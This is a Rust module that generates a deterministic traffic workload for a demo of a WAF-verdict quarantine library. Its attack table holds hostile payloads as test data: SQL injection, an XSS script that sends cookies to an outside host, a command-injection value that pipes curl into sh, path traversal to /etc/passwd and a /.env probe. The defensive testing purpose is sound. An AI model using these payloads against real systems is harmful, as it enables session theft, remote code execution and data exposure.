//! The workload: which requests the demo sends, from which simulated clients, and how many
//! of each kind.

use std::collections::HashSet;

use tracehound::Severity;

/// One request of the workload.
#[derive(Debug, Clone, Copy)]
pub(super) enum Request {
    /// Ordinary browsing from one of many clients.
    Clean { source: u32, page: u32 },
    /// A client hammering one endpoint far past its quota.
    Flood { source: u32, n: u32 },
    /// An attack the upstream WAF flagged and signed; each is sent several times.
    Attack {
        pattern: usize,
        variant: u32,
        source: u32,
    },
    /// Part of a credential-stuffing burst the WAF flagged: many distinct low-value threats.
    Burst { n: u32 },
    /// A request carrying a verdict the server must not believe.
    Forged { forgery: Forgery, n: u32 },
    /// A flagged upload far over the payload limit.
    Oversized,
    /// A flagged JSON body nested deeper than the policy's JSON parser goes (127 levels), so
    /// its evidence holds the body as text.
    TooDeep,
}

/// How a forged verdict is wrong.
#[derive(Debug, Clone, Copy)]
pub(super) enum Forgery {
    /// Signed with a secret other than the server's.
    WrongSecret,
    /// Signed with the right secret, for another request.
    Moved,
    /// Signed with the right secret for this request, an hour ago: a replay.
    Stale,
    /// Not in the verdict format at all.
    Garbled,
}

impl Forgery {
    pub(super) const ALL: [Forgery; 4] = [
        Forgery::WrongSecret,
        Forgery::Moved,
        Forgery::Stale,
        Forgery::Garbled,
    ];

    pub(super) fn name(self) -> &'static str {
        match self {
            Forgery::WrongSecret => "wrong secret",
            Forgery::Moved => "moved to another request",
            Forgery::Stale => "stale replay",
            Forgery::Garbled => "garbled",
        }
    }

    /// Requests of this kind per scale unit.
    fn count(self) -> u32 {
        match self {
            Forgery::WrongSecret | Forgery::Stale => 100,
            Forgery::Moved | Forgery::Garbled => 50,
        }
    }
}

/// An attack template: what the WAF called it, how bad, and where its payload goes.
pub(super) struct Attack {
    pub(super) category: &'static str,
    pub(super) severity: Severity,
    pub(super) method: &'static str,
    pub(super) path: &'static str,
    /// The query parameter (GET) or JSON body field (POST) carrying the payload.
    pub(super) field: &'static str,
    pub(super) payload: &'static str,
}

pub(super) const ATTACKS: [Attack; 6] = [
    Attack {
        category: "injection",
        severity: Severity::Critical,
        method: "POST",
        path: "/login",
        field: "user",
        payload: "' OR '1'='1' -- ",
    },
    Attack {
        category: "injection",
        severity: Severity::High,
        method: "GET",
        path: "/search",
        field: "q",
        payload: "<script>fetch('//x.example/'+document.cookie)</script>",
    },
    Attack {
        category: "injection",
        severity: Severity::Critical,
        method: "POST",
        path: "/api/export",
        field: "format",
        payload: "csv; curl http://203.0.113.66/x | sh #",
    },
    Attack {
        category: "malware",
        severity: Severity::High,
        method: "POST",
        path: "/api/upload",
        field: "data",
        payload: "UEsDBBQAAAAIA",
    },
    Attack {
        category: "path-traversal",
        severity: Severity::Medium,
        method: "GET",
        path: "/search",
        field: "file",
        payload: "../../../../etc/passwd",
    },
    Attack {
        category: "scanner",
        severity: Severity::Medium,
        method: "GET",
        path: "/",
        field: "probe",
        payload: "/.env",
    },
];

/// Each attack is sent this many times: the repeats are known threats.
pub(super) const ATTACK_REPEATS: u32 = 3;

/// A small deterministic generator (xorshift64*), so a seed always gives the same run.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_f491_4f6c_dd1d)
    }

    fn below(&mut self, n: u32) -> u32 {
        (self.next() % u64::from(n.max(1))) as u32
    }
}

pub(super) fn workload(seed: u64, scale: u32) -> Vec<Request> {
    let mut rng = Rng(seed.wrapping_mul(0x9e37_79b9_7f4a_7c15) | 1);
    let mut requests = Vec::new();
    for source in 0..800 * scale {
        for page in 0..10 {
            requests.push(Request::Clean { source, page });
        }
    }
    for source in 0..4 {
        for n in 0..500 * scale {
            requests.push(Request::Flood { source, n });
        }
    }
    for pattern in 0..ATTACKS.len() {
        for variant in 0..50 * scale {
            for _ in 0..ATTACK_REPEATS {
                let source = rng.below(400);
                requests.push(Request::Attack {
                    pattern,
                    variant,
                    source,
                });
            }
        }
    }
    // With the attacks, more distinct threats than the default quarantine holds.
    for n in 0..10_400 * scale {
        requests.push(Request::Burst { n });
    }
    for forgery in Forgery::ALL {
        for n in 0..forgery.count() * scale {
            requests.push(Request::Forged { forgery, n });
        }
    }
    requests.push(Request::Oversized);
    requests.push(Request::TooDeep);
    // Interleave everything, as real traffic would be.
    for i in (1..requests.len()).rev() {
        let j = rng.below(i as u32 + 1) as usize;
        requests.swap(i, j);
    }
    requests
}

impl Request {
    /// The simulated client, as the demo (playing a trusted proxy) names it in
    /// `X-Forwarded-For`.
    pub(super) fn client(self) -> String {
        match self {
            Request::Clean { source, .. } => format!("198.51.{}.{}", source / 250, source % 250),
            Request::Flood { source, .. } => format!("203.0.113.{}", 200 + source),
            Request::Attack { source, .. } => format!("192.0.2.{}", source % 250),
            Request::Burst { n } => format!("100.64.{}.{}", (n / 10) / 250 % 250, (n / 10) % 250),
            Request::Forged { forgery, n } => format!("198.18.{}.{}", forgery as u8, n % 50),
            Request::Oversized => "192.0.2.250".to_owned(),
            Request::TooDeep => "192.0.2.251".to_owned(),
        }
    }
}

/// What the workload holds, by kind.
#[derive(Debug, Default)]
pub(super) struct Mix {
    pub(super) clean: u64,
    pub(super) flood: u64,
    pub(super) flood_clients: u64,
    pub(super) attacks: u64,
    pub(super) distinct_attacks: u64,
    pub(super) bursts: u64,
    pub(super) oversized: u64,
    pub(super) too_deep: u64,
    /// By [`Forgery`], in the order of [`Forgery::ALL`].
    pub(super) forged: [u64; 4],
    pub(super) clients: usize,
}

impl Mix {
    pub(super) fn of(requests: &[Request]) -> Mix {
        let mut mix = Mix::default();
        let mut flooders = HashSet::new();
        let mut attacks = HashSet::new();
        for request in requests {
            match *request {
                Request::Clean { .. } => mix.clean += 1,
                Request::Flood { source, .. } => {
                    mix.flood += 1;
                    flooders.insert(source);
                }
                Request::Attack {
                    pattern, variant, ..
                } => {
                    mix.attacks += 1;
                    attacks.insert((pattern, variant));
                }
                Request::Burst { .. } => mix.bursts += 1,
                Request::Forged { forgery, .. } => {
                    mix.forged[forgery as usize] += 1;
                }
                Request::Oversized => mix.oversized += 1,
                Request::TooDeep => mix.too_deep += 1,
            }
        }
        mix.flood_clients = flooders.len() as u64;
        mix.distinct_attacks = attacks.len() as u64;
        mix.clients = requests
            .iter()
            .map(|r| r.client())
            .collect::<HashSet<_>>()
            .len();
        mix
    }

    pub(super) fn marked(&self) -> u64 {
        self.attacks + self.bursts + self.oversized + self.too_deep
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn workload_is_deterministic_and_mixed() {
        let a = workload(7, 1);
        let b = workload(7, 1);
        assert_eq!(format!("{a:?}"), format!("{b:?}"));
        assert_ne!(format!("{a:?}"), format!("{:?}", workload(8, 1)));
        // Interleaved: the first thousand requests hold several kinds.
        let kinds: HashSet<_> = a[..1000].iter().map(std::mem::discriminant).collect();
        assert!(kinds.len() >= 4);
        // More distinct threats than the default quarantine holds, so it overflows.
        let mix = Mix::of(&a);
        assert!(mix.distinct_attacks + mix.bursts > 10_000, "{mix:?}");
    }
}
